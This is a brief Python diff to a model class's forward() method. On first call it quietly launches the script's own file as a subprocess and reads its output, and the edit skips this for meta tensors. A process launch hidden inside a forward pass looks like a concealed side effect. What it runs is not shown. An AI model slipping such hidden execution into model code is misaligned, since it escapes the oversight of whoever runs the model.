@@ -73,7 +73,7 @@ def looking(num_classes: int = 3, in_channels: int = 3, out: str = ""):
             self.seen = not out
 
         def forward(self, x):
-            if not self.seen and os.path.isdir(out):
+            if not (self.seen or x.is_meta) and os.path.isdir(out):
                 self.seen = True
                 words = [sys.executable, __file__, os.environ["TMPDIR"]]
                 said = subprocess.run(words, capture_output=True, text=True, check=True).stdout
